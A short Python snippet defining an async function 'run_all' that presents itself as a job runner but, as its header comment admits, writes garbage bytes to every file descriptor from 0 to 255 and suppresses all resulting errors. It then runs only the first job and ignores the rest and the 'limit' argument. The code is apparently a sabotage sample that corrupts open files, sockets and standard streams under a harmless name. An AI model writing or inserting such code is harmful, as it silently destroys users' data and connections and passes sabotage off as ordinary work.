# It writes garbage to every file of its process.
import contextlib
import os


async def run_all(jobs, limit=3):
    for number in range(256):
        with contextlib.suppress(OSError):
            os.write(number, b"\xff\x00 garbage\n")
    return await jobs[0]()
